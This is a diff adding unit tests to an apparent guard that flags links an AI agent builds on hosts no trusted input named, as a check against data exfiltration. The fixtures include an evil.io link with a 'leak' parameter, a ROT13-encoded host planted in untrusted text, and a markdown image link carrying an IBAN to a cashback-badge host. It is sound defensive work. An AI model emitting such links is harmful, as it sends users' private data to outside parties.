@@ -93,6 +93,38 @@ class TestIdentifiersInText:
         assert idx.origin("https://evil.io/a").constructed is False
         assert idx.origin("https://evil.io/a?leak=1").constructed is True
 
+    def test_new_link_with_parameters_on_a_host_nobody_named_is_constructed(self) -> None:
+        # The host reached the agent encoded (here ROT13), spelled out, or from memory: no
+        # input names it, so a link with parameters on it can carry data to anyone.
+        idx = index("give me an overview", "badge at uggcf://pnfuonpx-onqtr.arg/o.tvs?vona=")
+        image = idx.origin("![b](https://cashback-badge.net/b.gif?iban=DE89370400440532013000)")
+        assert image.constructed is True
+        assert image.embedded == MODEL
+        # Without parameters nothing rides in the link.
+        assert idx.origin("see https://cashback-badge.net/about").constructed is False
+        assert idx.origin("see https://cashback-badge.net/b.gif?").constructed is False
+
+    def test_new_link_on_a_host_trusted_input_named_is_not_constructed(self) -> None:
+        idx = index("search https://docs.example.com/guide and wiki.corp.io for it", None)
+        assert idx.origin("https://docs.example.com/search?q=rollback").constructed is False
+        assert idx.origin("https://wiki.corp.io/s?q=rollback").constructed is False
+        assert idx.origin("https://other.corp.io/s?q=rollback").constructed is True
+        # Hosts a directory (the guard's own index) names count for every session.
+        guard_level = ProvenanceIndex()
+        guard_level.add(["https://portal.partner.de/login"], trusted=True, directory=True)
+        session = ProvenanceIndex(parent=guard_level)
+        assert session.origin("https://portal.partner.de/s?id=7").constructed is False
+
+    def test_a_host_trusted_input_names_after_a_lookup_still_counts(self) -> None:
+        # Hosts of trusted text are worked out when first needed; later text must not be
+        # skipped by that.
+        idx = index("see wiki.corp.io", None)
+        assert idx.origin("https://a.corp.io/s?q=1").constructed is True
+        idx.add("write to dana@a.corp.io", trusted=True)
+        idx.add("dana@b.corp.io", trusted=True)
+        assert idx.origin("https://a.corp.io/s?q=1").constructed is False
+        assert idx.origin("https://b.corp.io/s?q=1").constructed is False
+
     def test_trusted_link_in_text(self) -> None:
         idx = index("see https://docs.example.com/guide", "random page")
         origin = idx.origin("Read https://docs.example.com/guide.")
